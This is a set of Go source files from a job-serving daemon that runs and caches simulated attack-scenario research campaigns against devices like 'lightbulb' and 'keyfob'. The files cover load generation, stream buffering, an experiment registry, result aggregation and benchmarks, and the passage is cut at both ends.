		t.Error("capacity-0 cache kept more than one entry")
	}
	if _, ok := c.get("b"); !ok {
		t.Error("most recent entry missing")
	}
}
