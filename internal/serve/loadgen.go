package serve

import (
	"context"
	"errors"
	"fmt"
	"io"
	"sort"
	"strings"
	"sync"
	"time"
)

// LoadgenConfig shapes a load run against a daemon.
type LoadgenConfig struct {
	// Clients is the number of concurrent submitters (default 8).
	Clients int
	// Jobs is the total number of submissions (default 64).
	Jobs int
	// Specs is the job mix, assigned round-robin across submissions;
	// repeats are what exercises the dedup cache. Default: scenarioA on
	// the three targets, 5 trials each.
	Specs []JobSpec
	// Retries bounds re-submission after a 429/503 (default 50); each
	// retry waits RetryPause.
	Retries int
	// RetryPause is the wait between retries (default 50ms).
	RetryPause time.Duration
}

func (c LoadgenConfig) withDefaults() LoadgenConfig {
	if c.Clients <= 0 {
		c.Clients = 8
	}
	if c.Jobs <= 0 {
		c.Jobs = 64
	}
	if len(c.Specs) == 0 {
		for _, target := range []string{"lightbulb", "keyfob", "smartwatch"} {
			c.Specs = append(c.Specs, JobSpec{
				Experiment: "scenarioA", Target: target, Trials: 5, SeedBase: 9000,
			})
		}
	}
	if c.Retries <= 0 {
		c.Retries = 50
	}
	if c.RetryPause <= 0 {
		c.RetryPause = 50 * time.Millisecond
	}
	return c
}

// LoadReport aggregates a load run.
type LoadReport struct {
	Jobs          int
	Clients       int
	Elapsed       time.Duration
	Hits          int
	Joins         int
	Misses        int
	Retried       int // 429/503 responses absorbed by retry
	Errors        int
	P50, P90, P99 time.Duration
	JobsPerSec    float64
}

// CacheHitRatio is hits+joins over completed jobs.
func (r LoadReport) CacheHitRatio() float64 {
	total := r.Hits + r.Joins + r.Misses
	if total == 0 {
		return 0
	}
	return float64(r.Hits+r.Joins) / float64(total)
}

// Table renders the report as an aligned text table.
func (r LoadReport) Table() string {
	var b strings.Builder
	fmt.Fprintf(&b, "loadgen: %d jobs, %d clients, %.2fs wall\n", r.Jobs, r.Clients, r.Elapsed.Seconds())
	fmt.Fprintf(&b, "%-22s %12s\n", "metric", "value")
	row := func(k, v string) { fmt.Fprintf(&b, "%-22s %12s\n", k, v) }
	row("throughput jobs/s", fmt.Sprintf("%.1f", r.JobsPerSec))
	row("latency p50", fmtMS(r.P50))
	row("latency p90", fmtMS(r.P90))
	row("latency p99", fmtMS(r.P99))
	row("cache hits", fmt.Sprintf("%d", r.Hits))
	row("singleflight joins", fmt.Sprintf("%d", r.Joins))
	row("misses (executed)", fmt.Sprintf("%d", r.Misses))
	row("cache hit ratio", fmt.Sprintf("%.0f%%", 100*r.CacheHitRatio()))
	row("429/503 retried", fmt.Sprintf("%d", r.Retried))
	row("errors", fmt.Sprintf("%d", r.Errors))
	return b.String()
}

func fmtMS(d time.Duration) string {
	return fmt.Sprintf("%.1fms", float64(d.Microseconds())/1000)
}

// Loadgen drives Jobs submissions through Clients concurrent workers
// against the daemon behind client, and reports throughput, latency
// quantiles and the cache/join/miss split. Progress lines go to logw
// (may be nil).
func Loadgen(ctx context.Context, client *Client, cfg LoadgenConfig, logw io.Writer) (*LoadReport, error) {
	cfg = cfg.withDefaults()
	type res struct {
		lat     time.Duration
		cache   string
		retried int
		err     error
	}
	results := make([]res, cfg.Jobs)
	next := make(chan int)
	var wg sync.WaitGroup

	start := time.Now()
	for c := 0; c < cfg.Clients; c++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				spec := cfg.Specs[i%len(cfg.Specs)]
				t0 := time.Now()
				var rr *RunResult
				var err error
				retried := 0
				for attempt := 0; ; attempt++ {
					rr, err = client.Run(ctx, spec)
					var apiErr *APIError
					if err != nil && attempt < cfg.Retries &&
						errors.As(err, &apiErr) && (apiErr.Status == 429 || apiErr.Status == 503) {
						retried++
						select {
						case <-time.After(cfg.RetryPause):
							continue
						case <-ctx.Done():
						}
					}
					break
				}
				r := res{lat: time.Since(t0), retried: retried, err: err}
				if err == nil {
					r.cache = rr.Cache
				}
				results[i] = r
			}
		}()
	}
	for i := 0; i < cfg.Jobs; i++ {
		select {
		case next <- i:
		case <-ctx.Done():
			close(next)
			wg.Wait()
			return nil, ctx.Err()
		}
	}
	close(next)
	wg.Wait()

	rep := &LoadReport{Jobs: cfg.Jobs, Clients: cfg.Clients, Elapsed: time.Since(start)}
	lats := make([]time.Duration, 0, cfg.Jobs)
	for _, r := range results {
		rep.Retried += r.retried
		if r.err != nil {
			rep.Errors++
			continue
		}
		lats = append(lats, r.lat)
		switch r.cache {
		case "hit":
			rep.Hits++
		case "join":
			rep.Joins++
		default:
			rep.Misses++
		}
	}
	sort.Slice(lats, func(i, j int) bool { return lats[i] < lats[j] })
	if len(lats) > 0 {
		q := func(p float64) time.Duration {
			i := int(p * float64(len(lats)-1))
			return lats[i]
		}
		rep.P50, rep.P90, rep.P99 = q(0.50), q(0.90), q(0.99)
	}
	if rep.Elapsed > 0 {
		rep.JobsPerSec = float64(cfg.Jobs-rep.Errors) / rep.Elapsed.Seconds()
	}
	if logw != nil {
		fmt.Fprintf(logw, "loadgen: done (%d ok, %d errors)\n", cfg.Jobs-rep.Errors, rep.Errors)
	}
	return rep, nil
}
