package serve

import (
	"context"
	"fmt"
	"io"
	"sync"
	"time"
)

// JobStatus is a job's lifecycle state.
type JobStatus string

const (
	StatusQueued   JobStatus = "queued"
	StatusRunning  JobStatus = "running"
	StatusDone     JobStatus = "done"
	StatusFailed   JobStatus = "failed"
	StatusCanceled JobStatus = "canceled"
)

// job is one admitted campaign execution. Identical concurrent
// submissions all share a single job (singleflight), so the stream buffer
// supports any number of concurrent readers over one append-only writer.
type job struct {
	id   string
	spec JobSpec // normalized
	key  string
	// trace is the job's trace id: the submitter's X-Trace-Id when one
	// was propagated (fabric dispatch), else the canonical spec key.
	trace string

	// submitted is when the job was admitted (for queue-wait latency).
	submitted time.Time

	// cancel aborts the job's run context; safe to call at any time after
	// admission, including before the job is popped.
	cancel context.CancelFunc
	// canceledCtx is the context cancel trips; the executor derives its
	// run context (with deadline) from it.
	canceledCtx context.Context

	buf  streamBuf
	done chan struct{} // closed exactly once when the job reaches a terminal state

	mu     sync.Mutex
	status JobStatus
	errMsg string
}

func newJob(id string, spec JobSpec, now time.Time) *job {
	ctx, cancel := context.WithCancel(context.Background())
	j := &job{
		id:          id,
		spec:        spec,
		key:         spec.Key(),
		submitted:   now,
		cancel:      cancel,
		canceledCtx: ctx,
		done:        make(chan struct{}),
		status:      StatusQueued,
	}
	return j
}

// setStatus transitions the job; terminal transitions close done.
func (j *job) setStatus(s JobStatus, errMsg string) {
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.status == StatusDone || j.status == StatusFailed || j.status == StatusCanceled {
		return // already terminal
	}
	j.status = s
	j.errMsg = errMsg
	if s == StatusDone || s == StatusFailed || s == StatusCanceled {
		close(j.done)
	}
}

// snapshot returns the job's externally visible state.
func (j *job) snapshot() JobInfo {
	j.mu.Lock()
	defer j.mu.Unlock()
	return JobInfo{
		ID:         j.id,
		Experiment: j.spec.Experiment,
		Target:     j.spec.Target,
		Trials:     j.spec.Trials,
		SeedBase:   j.spec.SeedBase,
		Key:        j.key,
		Status:     j.status,
		Error:      j.errMsg,
	}
}

// JobInfo is the wire form of a job's status.
type JobInfo struct {
	ID         string    `json:"id"`
	Experiment string    `json:"experiment"`
	Target     string    `json:"target,omitempty"`
	Trials     int       `json:"trials"`
	SeedBase   uint64    `json:"seed_base"`
	Key        string    `json:"key"`
	Status     JobStatus `json:"status"`
	Error      string    `json:"error,omitempty"`
}

// streamBuf is a broadcast byte buffer: one writer appends, any number of
// readers consume from their own offset, blocking until more bytes arrive
// or the stream is sealed. Sealing is idempotent. The campaign NDJSON
// sink writes into it, so every subscriber — including ones that attach
// mid-run — observes the exact same byte sequence.
type streamBuf struct {
	mu     sync.Mutex
	cond   *sync.Cond
	data   []byte
	sealed bool
}

func (b *streamBuf) initLocked() {
	if b.cond == nil {
		b.cond = sync.NewCond(&b.mu)
	}
}

// Write appends; it never fails (writes after seal are dropped, which
// only happens on cancellation races).
func (b *streamBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.initLocked()
	if !b.sealed {
		b.data = append(b.data, p...)
		b.cond.Broadcast()
	}
	return len(p), nil
}

// seal marks the stream complete; readers drain and then see EOF.
func (b *streamBuf) seal() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.initLocked()
	b.sealed = true
	b.cond.Broadcast()
}

// bytes returns a copy of the full stream (valid only after seal for
// byte-identical replay semantics).
func (b *streamBuf) bytes() []byte {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := make([]byte, len(b.data))
	copy(out, b.data)
	return out
}

// sealedBytes returns the underlying buffer without copying, and whether
// the stream is sealed. Writes are dropped once sealed, so the returned
// slab is immutable — this is what lets the cache and the HTTP layer
// serve completed streams zero-copy.
func (b *streamBuf) sealedBytes() ([]byte, bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if !b.sealed {
		return nil, false
	}
	return b.data, true
}

// reader returns an io.Reader over the stream from offset 0. Reads block
// until bytes arrive or the stream is sealed; ctx aborts a blocked read.
func (b *streamBuf) reader(ctx context.Context) io.Reader {
	return &streamReader{buf: b, ctx: ctx}
}

type streamReader struct {
	buf *streamBuf
	ctx context.Context
	off int
}

func (r *streamReader) Read(p []byte) (int, error) {
	b := r.buf
	b.mu.Lock()
	defer b.mu.Unlock()
	b.initLocked()
	for {
		if r.off < len(b.data) {
			n := copy(p, b.data[r.off:])
			r.off += n
			return n, nil
		}
		if b.sealed {
			return 0, io.EOF
		}
		if err := r.ctx.Err(); err != nil {
			return 0, err
		}
		// Wake on writes, seals and periodic ticks so a canceled context
		// is noticed even when the stream is idle.
		waker := time.AfterFunc(100*time.Millisecond, b.cond.Broadcast)
		b.cond.Wait()
		waker.Stop()
	}
}

// jobIDs hands out sequential human-scannable ids ("j-0001", ...).
type jobIDs struct {
	mu sync.Mutex
	n  int
}

func (g *jobIDs) next() string {
	g.mu.Lock()
	defer g.mu.Unlock()
	g.n++
	return fmt.Sprintf("j-%04d", g.n)
}
