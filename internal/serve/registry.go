package serve

import (
	"fmt"
	"sort"

	"injectable/internal/campaign"
	"injectable/internal/experiments"
)

// Entry is one servable campaign kind.
type Entry struct {
	// Name is the experiment name jobs refer to.
	Name string
	// Targets lists the allowed Target values; empty means the entry
	// takes no target.
	Targets []string
	// Build expands a validated, normalized job spec into the campaign to
	// run. The returned spec's trial functions must be deterministic in
	// the trial seed — that is what makes result streams cacheable.
	Build func(spec JobSpec) (*campaign.Spec, error)
}

// Registry maps experiment names to entries. Construct with NewRegistry
// and Register; the zero value is empty but usable.
type Registry struct {
	entries map[string]Entry
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry { return &Registry{entries: map[string]Entry{}} }

// Register adds (or replaces) an entry.
func (r *Registry) Register(e Entry) {
	if r.entries == nil {
		r.entries = map[string]Entry{}
	}
	r.entries[e.Name] = e
}

// Names lists registered experiments in sorted order.
func (r *Registry) Names() []string {
	names := make([]string, 0, len(r.entries))
	for name := range r.entries {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// Lookup returns the entry for a name.
func (r *Registry) Lookup(name string) (Entry, bool) {
	e, ok := r.entries[name]
	return e, ok
}

// Validate checks a decoded spec against the registry: the experiment
// must exist and the target must be legal for it. It returns the
// normalized spec ready for Build.
func (r *Registry) Validate(spec JobSpec) (JobSpec, error) {
	e, ok := r.entries[spec.Experiment]
	if !ok {
		return JobSpec{}, fmt.Errorf("serve: unknown experiment %q (available: %v)",
			spec.Experiment, r.Names())
	}
	if len(e.Targets) == 0 {
		if spec.Target != "" {
			return JobSpec{}, fmt.Errorf("serve: experiment %q takes no target", spec.Experiment)
		}
	} else {
		ok := false
		for _, t := range e.Targets {
			if t == spec.Target {
				ok = true
				break
			}
		}
		if !ok {
			return JobSpec{}, fmt.Errorf("serve: experiment %q: unknown target %q (want one of %v)",
				spec.Experiment, spec.Target, e.Targets)
		}
	}
	norm := spec.Normalize()
	if norm.PointStart != 0 || norm.PointCount != 0 || norm.Warmup != "" {
		// A point range or warmup mode can only be checked against the
		// experiment itself (scenarios take no warmup); building the spec
		// is cheap (closure construction, no simulation) and rejects a bad
		// combination at admission instead of surfacing it as a failed job.
		if _, err := e.Build(norm); err != nil {
			return JobSpec{}, err
		}
	}
	return norm, nil
}

// Build validates the spec and expands it into its campaign.
func (r *Registry) Build(spec JobSpec) (*campaign.Spec, error) {
	norm, err := r.Validate(spec)
	if err != nil {
		return nil, err
	}
	e := r.entries[norm.Experiment]
	return e.Build(norm)
}

// DefaultRegistry exposes every servable study in internal/experiments:
// the Fig. 9 sweeps, the design ablations, the heuristic validation and
// the four attack scenarios (plus the §IX keystrokes extension). Daemon
// jobs built from it run the exact campaigns the CLI sweeps run.
func DefaultRegistry() *Registry {
	r := NewRegistry()
	for _, name := range experiments.SweepNames() {
		name := name
		r.Register(Entry{
			Name: name,
			Build: func(spec JobSpec) (*campaign.Spec, error) {
				return experiments.SweepSpec(name, specOptions(spec))
			},
		})
	}
	for _, name := range experiments.ScenarioNames() {
		name := name
		e := Entry{
			Name: name,
			Build: func(spec JobSpec) (*campaign.Spec, error) {
				return experiments.ScenarioSpec(name, spec.Target, specOptions(spec))
			},
		}
		if name != "keystrokes" {
			e.Targets = experiments.ScenarioTargets()
		}
		r.Register(e)
	}
	return r
}

// specOptions maps the normalized wire spec onto experiment options.
func specOptions(spec JobSpec) experiments.Options {
	return experiments.Options{
		TrialsPerPoint: spec.Trials,
		SeedBase:       spec.SeedBase,
		PointStart:     spec.PointStart,
		PointCount:     spec.PointCount,
		Warmup:         spec.Warmup,
	}
}
