package serve

import (
	"fmt"
	"sort"

	"injectable/internal/campaign"
	"injectable/internal/experiments"
	"injectable/internal/scenario"
)

// Entry is one servable campaign kind.
type Entry struct {
	// Name is the experiment name jobs refer to.
	Name string
	// Targets lists the allowed Target values; empty means the entry
	// takes no target.
	Targets []string
	// Build expands a validated, normalized job spec into the campaign to
	// run. The returned spec's trial functions must be deterministic in
	// the trial seed — that is what makes result streams cacheable.
	Build func(spec JobSpec) (*campaign.Spec, error)
}

// Registry maps experiment names to entries. Construct with NewRegistry
// and Register; the zero value is empty but usable.
type Registry struct {
	entries map[string]Entry
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry { return &Registry{entries: map[string]Entry{}} }

// Register adds (or replaces) an entry.
func (r *Registry) Register(e Entry) {
	if r.entries == nil {
		r.entries = map[string]Entry{}
	}
	r.entries[e.Name] = e
}

// Names lists registered experiments in sorted order.
func (r *Registry) Names() []string {
	names := make([]string, 0, len(r.entries))
	for name := range r.entries {
		names = append(names, name)
	}
	sort.Strings(names)
	return names
}

// Lookup returns the entry for a name.
func (r *Registry) Lookup(name string) (Entry, bool) {
	e, ok := r.entries[name]
	return e, ok
}

// Validate checks a decoded spec against the registry: the experiment
// must exist and the target must be legal for it. It returns the
// normalized spec ready for Build. Inline-scenario specs bypass the
// entry table — the scenario compiler is their registry — which is also
// what lets the fabric planner shard DSL sweeps with no code of its own:
// a scenario JobSpec validates, builds and point-slices like any catalog
// entry.
func (r *Registry) Validate(spec JobSpec) (JobSpec, error) {
	if len(spec.Scenario) > 0 {
		return validateScenario(spec)
	}
	e, ok := r.entries[spec.Experiment]
	if !ok {
		return JobSpec{}, fmt.Errorf("serve: unknown experiment %q (available: %v)",
			spec.Experiment, r.Names())
	}
	if len(e.Targets) == 0 {
		if spec.Target != "" {
			return JobSpec{}, fmt.Errorf("serve: experiment %q takes no target", spec.Experiment)
		}
	} else {
		ok := false
		for _, t := range e.Targets {
			if t == spec.Target {
				ok = true
				break
			}
		}
		if !ok {
			return JobSpec{}, fmt.Errorf("serve: experiment %q: unknown target %q (want one of %v)",
				spec.Experiment, spec.Target, e.Targets)
		}
	}
	norm := spec.Normalize()
	if norm.PointStart != 0 || norm.PointCount != 0 || norm.Warmup != "" {
		// A point range or warmup mode can only be checked against the
		// experiment itself (scenarios take no warmup); building the spec
		// is cheap (closure construction, no simulation) and rejects a bad
		// combination at admission instead of surfacing it as a failed job.
		if _, err := e.Build(norm); err != nil {
			return JobSpec{}, err
		}
	}
	return norm, nil
}

// validateScenario admits an inline-scenario spec: decoder-level bounds,
// semantic validation against the admission limits (device count, point
// count, sim-time budget — all before any world exists) and canonical
// payload rewriting so the normalized spec's key matches every other
// spelling of the same world. A point range or warmup is checked by a
// compile (closure construction only, like the catalog entries do).
func validateScenario(spec JobSpec) (JobSpec, error) {
	if err := spec.check(); err != nil {
		return JobSpec{}, err
	}
	norm := spec.Normalize()
	sp, err := scenario.DecodeSpec(norm.Scenario)
	if err != nil {
		return JobSpec{}, fmt.Errorf("serve: scenario: %w", err)
	}
	if err := scenario.Validate(sp, norm.Trials, scenario.DefaultLimits); err != nil {
		return JobSpec{}, fmt.Errorf("serve: scenario: %w", err)
	}
	canon, err := scenario.EncodeCanonical(sp)
	if err != nil {
		return JobSpec{}, err
	}
	norm.Scenario = canon
	if norm.PointStart != 0 || norm.PointCount != 0 || norm.Warmup != "" {
		if _, err := scenario.Compile(sp, specOptions(norm)); err != nil {
			return JobSpec{}, err
		}
	}
	return norm, nil
}

// Build validates the spec and expands it into its campaign.
func (r *Registry) Build(spec JobSpec) (*campaign.Spec, error) {
	norm, err := r.Validate(spec)
	if err != nil {
		return nil, err
	}
	if len(norm.Scenario) > 0 {
		sp, err := scenario.DecodeSpec(norm.Scenario)
		if err != nil {
			return nil, fmt.Errorf("serve: scenario: %w", err)
		}
		return scenario.Compile(sp, specOptions(norm))
	}
	e := r.entries[norm.Experiment]
	return e.Build(norm)
}

// DefaultRegistry exposes every servable study in internal/experiments:
// the Fig. 9 sweeps, the design ablations, the heuristic validation and
// the four attack scenarios (plus the §IX keystrokes extension). Daemon
// jobs built from it run the exact campaigns the CLI sweeps run.
func DefaultRegistry() *Registry {
	r := NewRegistry()
	for _, name := range experiments.SweepNames() {
		name := name
		r.Register(Entry{
			Name: name,
			Build: func(spec JobSpec) (*campaign.Spec, error) {
				return experiments.SweepSpec(name, specOptions(spec))
			},
		})
	}
	for _, name := range experiments.ScenarioNames() {
		name := name
		e := Entry{
			Name: name,
			Build: func(spec JobSpec) (*campaign.Spec, error) {
				return experiments.ScenarioSpec(name, spec.Target, specOptions(spec))
			},
		}
		if name != "keystrokes" {
			e.Targets = experiments.ScenarioTargets()
		}
		r.Register(e)
	}
	return r
}

// specOptions maps the normalized wire spec onto experiment options.
func specOptions(spec JobSpec) experiments.Options {
	return experiments.Options{
		TrialsPerPoint: spec.Trials,
		SeedBase:       spec.SeedBase,
		PointStart:     spec.PointStart,
		PointCount:     spec.PointCount,
		Warmup:         spec.Warmup,
	}
}
