package serve

import (
	"encoding/json"
	"fmt"
	"sort"

	"injectable/internal/campaign"
	"injectable/internal/obs"
)

// Columnar aggregation: dashboards asking "what is the success rate at
// each sweep point?" should pull kilobytes, not replay megabytes of
// trial stream. AggregateStream scans the cached binary slab directly —
// record values are only JSON-probed for the two fields every
// experiment value carries (success, attempts), nothing else is
// materialized — and folds per-point attempts histograms into a
// campaign total with obs.MergeHistograms.

// PointAggregate is one sweep point's column summary.
type PointAggregate struct {
	Point       string  `json:"point"`
	Trials      int     `json:"trials"`
	OK          int     `json:"ok"`
	Failed      int     `json:"failed"`
	Successes   int     `json:"successes"`
	SuccessRate float64 `json:"success_rate"`
	// Attempts is the injection-latency histogram: connection events
	// until the hijack/injection landed, as reported by the trial value.
	Attempts obs.HistogramSnapshot `json:"attempts"`
}

// Aggregate is the campaign-level columnar summary served by
// /v1/aggregate.
type Aggregate struct {
	Campaign    string           `json:"campaign"`
	SeedBase    uint64           `json:"seed_base"`
	Trials      int              `json:"trials"`
	OK          int              `json:"ok"`
	Failed      int              `json:"failed"`
	Successes   int              `json:"successes"`
	SuccessRate float64          `json:"success_rate"`
	Points      []PointAggregate `json:"points"`
	// Attempts merges every point's histogram (exact count/sum/min/max,
	// bucket-for-bucket since all points share one layout).
	Attempts obs.HistogramSnapshot `json:"attempts"`
}

// attemptBounds is the shared bucket layout for attempts histograms:
// unit buckets over the plausible injection-latency range (the paper's
// campaigns succeed within a few tens of connection events).
func attemptBounds() []float64 { return obs.LinearBuckets(1, 1, 32) }

// newAttemptsHist returns an empty snapshot with the shared layout.
func newAttemptsHist() obs.HistogramSnapshot {
	return obs.HistogramSnapshot{
		Name:   "attempts",
		Bounds: attemptBounds(),
		Counts: make([]int64, len(attemptBounds())+1),
	}
}

// observe folds one sample into a snapshot, mirroring
// obs.Histogram.Observe bucketing (bucket i counts bounds[i-1] < v <=
// bounds[i], last bucket is overflow).
func observe(h *obs.HistogramSnapshot, v float64) {
	i := sort.SearchFloat64s(h.Bounds, v)
	h.Counts[i]++
	h.Sum += v
	if h.Count == 0 {
		h.Min, h.Max = v, v
	} else {
		if v < h.Min {
			h.Min = v
		}
		if v > h.Max {
			h.Max = v
		}
	}
	h.Count++
}

// valueProbe is the slice of a trial value the aggregator reads. Every
// experiment value in the registry (sweep TrialResult, scenario
// ScenarioOutcome) carries these two fields; foreign values simply
// contribute no success and no attempts sample.
type valueProbe struct {
	Success  bool `json:"success"`
	Attempts int  `json:"attempts"`
}

// AggregateStream computes the columnar aggregate of a complete binary
// trial stream. Point columns appear in first-seen (= ordinal) order,
// so the aggregate is as deterministic as the stream itself.
func AggregateStream(slab []byte) (*Aggregate, error) {
	agg := &Aggregate{Attempts: newAttemptsHist()}
	index := map[string]int{}
	info, tallies, err := campaign.ScanBinary(slab, func(rec campaign.Record) error {
		i, ok := index[rec.Point]
		if !ok {
			i = len(agg.Points)
			index[rec.Point] = i
			agg.Points = append(agg.Points, PointAggregate{
				Point:    rec.Point,
				Attempts: newAttemptsHist(),
			})
		}
		p := &agg.Points[i]
		p.Trials++
		if rec.OK {
			p.OK++
		} else {
			p.Failed++
		}
		if len(rec.Value) > 0 && rec.Value[0] == '{' {
			var v valueProbe
			if json.Unmarshal(rec.Value, &v) == nil {
				if v.Success {
					p.Successes++
				}
				if v.Attempts > 0 {
					observe(&p.Attempts, float64(v.Attempts))
				}
			}
		}
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("serve: aggregating result stream: %w", err)
	}
	agg.Campaign = info.Name
	agg.SeedBase = info.SeedBase
	agg.Trials = tallies.Trials
	agg.OK = tallies.OK
	agg.Failed = tallies.Failed
	for i := range agg.Points {
		p := &agg.Points[i]
		if p.Trials > 0 {
			p.SuccessRate = float64(p.Successes) / float64(p.Trials)
		}
		agg.Successes += p.Successes
		agg.Attempts = obs.MergeHistograms(agg.Attempts, p.Attempts)
	}
	if agg.Trials > 0 {
		agg.SuccessRate = float64(agg.Successes) / float64(agg.Trials)
	}
	return agg, nil
}
