package serve

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"injectable/internal/obs"
)

// benchServer spins up an in-process daemon over the fast stub registry
// so the benchmark measures serving overhead (admission, dedup, stream
// broadcast, HTTP), not simulation cost.
func benchServer(b *testing.B) (*Server, string, func()) {
	b.Helper()
	s := NewServer(Config{
		Registry:     stubRegistry(nil, nil, nil),
		Hub:          obs.NewHub(),
		QueueCap:     1024,
		JobWorkers:   2,
		TrialWorkers: 2,
		CacheEntries: 4096,
	})
	ts := httptest.NewServer(s.Handler())
	return s, ts.URL, func() { ts.Close(); s.Close() }
}

func benchRun(b *testing.B, base, body string) {
	b.Helper()
	resp, err := http.Post(base+"/v1/run", "application/json", strings.NewReader(body))
	if err != nil {
		b.Fatal(err)
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		b.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		b.Fatalf("HTTP %d", resp.StatusCode)
	}
}

// BenchmarkServeJob measures one synchronous job round trip through the
// full HTTP path: cache-hit replays a completed stream; cache-miss
// executes a fresh 8-trial campaign per iteration (distinct seed_base,
// so dedup never short-circuits it).
func BenchmarkServeJob(b *testing.B) {
	b.Run("cache-hit", func(b *testing.B) {
		_, base, stop := benchServer(b)
		defer stop()
		body := `{"experiment":"stub","trials":8,"seed_base":4242}`
		benchRun(b, base, body) // warm the cache
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			benchRun(b, base, body)
		}
	})
	b.Run("cache-miss", func(b *testing.B) {
		_, base, stop := benchServer(b)
		defer stop()
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			benchRun(b, base,
				fmt.Sprintf(`{"experiment":"stub","trials":8,"seed_base":%d}`, 100000+i))
		}
	})
}
