package serve

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"injectable/internal/obs"
)

// benchServer spins up an in-process daemon over the fast stub registry
// so the benchmarks measure serving overhead (admission, dedup, slab
// replay), not simulation cost. The hub is real: metric and span costs
// on the hot path are part of what the cache-hit gate protects.
func benchServer(b *testing.B) *Server {
	b.Helper()
	s := NewServer(Config{
		Registry:     stubRegistry(nil, nil, nil),
		Hub:          obs.NewHub(),
		QueueCap:     1024,
		JobWorkers:   2,
		TrialWorkers: 2,
		CacheEntries: 4096,
	})
	b.Cleanup(s.Close)
	return s
}

// submitWait admits a spec and blocks until the job is terminal.
func submitWait(b *testing.B, s *Server, spec JobSpec) *job {
	b.Helper()
	j, _, err := s.Submit(spec)
	if err != nil {
		b.Fatal(err)
	}
	<-j.done
	return j
}

// BenchmarkServeJob measures one synchronous job round trip through the
// server core. cache-hit is the serving hot path the binary slab cache
// exists for — spec validation, canonical key, LRU lookup, and a
// zero-copy handle on the completed stream, with no fresh job, no
// buffer copy and no transcode — and is CI-gated at 512 B / 9 allocs
// per op. cache-miss executes a fresh 8-trial campaign per iteration
// (distinct seed_base, so dedup never short-circuits it).
func BenchmarkServeJob(b *testing.B) {
	b.Run("cache-hit", func(b *testing.B) {
		s := benchServer(b)
		spec := JobSpec{Experiment: "stub", Trials: 8, SeedBase: 4242}
		submitWait(b, s, spec) // warm the cache
		// Warm the span log past its bound so its one-time growth to the
		// retention limit is not billed to the measured window (steady
		// state evicts in place and never grows).
		for i := 0; i < obs.DefaultSpanLimit+64; i++ {
			if _, _, err := s.Submit(spec); err != nil {
				b.Fatal(err)
			}
		}
		var bytesServed int64
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			j, disp, err := s.Submit(spec)
			if err != nil || disp != "hit" {
				b.Fatalf("disposition %q, err %v", disp, err)
			}
			slab, ok := j.buf.sealedBytes()
			if !ok {
				b.Fatal("hit job not sealed")
			}
			bytesServed += int64(len(slab))
		}
		b.SetBytes(bytesServed / int64(b.N))
	})
	b.Run("cache-miss", func(b *testing.B) {
		s := benchServer(b)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			submitWait(b, s, JobSpec{Experiment: "stub", Trials: 8, SeedBase: uint64(100000 + i)})
		}
	})
}

// BenchmarkServeJobHTTP is the same round trip through the full HTTP
// path (request parse, routing, response streaming) in both formats, so
// the transport overhead stays visible next to the core numbers.
func BenchmarkServeJobHTTP(b *testing.B) {
	run := func(b *testing.B, base, body, query string) {
		resp, err := http.Post(base+"/v1/run"+query, "application/json", strings.NewReader(body))
		if err != nil {
			b.Fatal(err)
		}
		defer resp.Body.Close()
		if _, err := io.Copy(io.Discard, resp.Body); err != nil {
			b.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			b.Fatalf("HTTP %d", resp.StatusCode)
		}
	}
	for _, format := range []string{FormatBinary, FormatNDJSON} {
		b.Run("cache-hit-"+format, func(b *testing.B) {
			s := benchServer(b)
			ts := httptest.NewServer(s.Handler())
			b.Cleanup(ts.Close)
			body := `{"experiment":"stub","trials":8,"seed_base":4242}`
			query := "?format=" + format
			run(b, ts.URL, body, query) // warm the cache and the transcode memo
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				run(b, ts.URL, body, query)
			}
		})
	}
	b.Run("cache-miss", func(b *testing.B) {
		s := benchServer(b)
		ts := httptest.NewServer(s.Handler())
		b.Cleanup(ts.Close)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			run(b, ts.URL,
				fmt.Sprintf(`{"experiment":"stub","trials":8,"seed_base":%d}`, 200000+i), "")
		}
	})
}
