package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"injectable/internal/campaign"
	"injectable/internal/experiments"
	"injectable/internal/obs"
)

// stubRegistry serves a fast deterministic experiment ("stub") plus a
// gated one ("slow") whose trials block until release is closed; builds
// counts how many times "stub" was expanded (one per execution).
func stubRegistry(builds *atomic.Int64, started chan<- string, release <-chan struct{}) *Registry {
	r := NewRegistry()
	r.Register(Entry{
		Name: "stub",
		Build: func(spec JobSpec) (*campaign.Spec, error) {
			if builds != nil {
				builds.Add(1)
			}
			return &campaign.Spec{
				Name:     "stub",
				SeedBase: spec.SeedBase,
				Points: []campaign.Point{{
					Label:  "p",
					Trials: spec.Trials,
					Seed:   func(i int) uint64 { return spec.SeedBase + uint64(i) },
					Run: func(t campaign.Trial) (any, error) {
						return t.Seed*2 + 1, nil
					},
				}},
			}, nil
		},
	})
	r.Register(Entry{
		Name: "slow",
		Build: func(spec JobSpec) (*campaign.Spec, error) {
			return &campaign.Spec{
				Name:     "slow",
				SeedBase: spec.SeedBase,
				Points: []campaign.Point{{
					Label:  "p",
					Trials: spec.Trials,
					Seed:   func(i int) uint64 { return spec.SeedBase + uint64(i) },
					Run: func(t campaign.Trial) (any, error) {
						if started != nil {
